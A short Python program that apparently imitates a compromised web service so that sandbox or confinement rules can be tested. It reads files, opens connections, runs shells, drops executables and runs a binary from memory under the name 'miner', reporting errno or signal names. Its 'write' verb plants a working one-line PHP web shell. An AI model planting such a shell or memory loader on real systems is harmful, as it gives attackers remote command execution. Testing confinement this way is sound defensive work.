"""
The shop's web service, after somebody got in: it does what it is told on standard input, one `verb argument` a line.

Answers with one line: `done`, the name of an errno, or the name of the signal that ended the child.
"""

import errno
import os
import shutil
import signal
import socket
import subprocess
import sys
from pathlib import Path


def read(argument: str) -> None:
    Path(argument).read_bytes()


def write(argument: str) -> None:
    Path(argument).write_text("<?php system($_GET['c']);")


def connect(argument: str) -> None:
    host, _, port = argument.rpartition(":")
    socket.create_connection((host, int(port)), timeout=2).close()


def run(argument: str) -> str:
    command = [argument, "-c", "exit"] if argument.endswith("sh") else [argument]
    status = subprocess.run(command, check=False, stdin=subprocess.DEVNULL).returncode
    return signal.Signals(-status).name if status < 0 else "done"


def drop(argument: str) -> str:
    path = Path(argument)
    path.parent.mkdir(exist_ok=True)
    shutil.copy("/usr/bin/true", path)
    path.chmod(0o755)
    return run(argument)


def memory(argument: str) -> str:
    fd = os.memfd_create("miner")
    os.write(fd, Path(argument).read_bytes())
    child = os.fork()
    if child == 0:
        try:
            os.execve(fd, ["miner"], {})
        except OSError as error:
            os._exit(error.errno or 255)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    os.close(fd)
    if status > 0:
        raise OSError(status, os.strerror(status))
    return signal.Signals(-status).name if status < 0 else "done"


VERBS = {"read": read, "write": write, "connect": connect, "run": run, "drop": drop, "memory": memory}


def main() -> None:
    print("serving", flush=True)
    for line in sys.stdin:
        verb, _, argument = line.rstrip("\n").partition(" ")
        try:
            answer = VERBS[verb](argument) or "done"
        except OSError as error:
            answer = errno.errorcode.get(error.errno or 0, str(error))
        print(answer, flush=True)


if __name__ == "__main__":
    main()
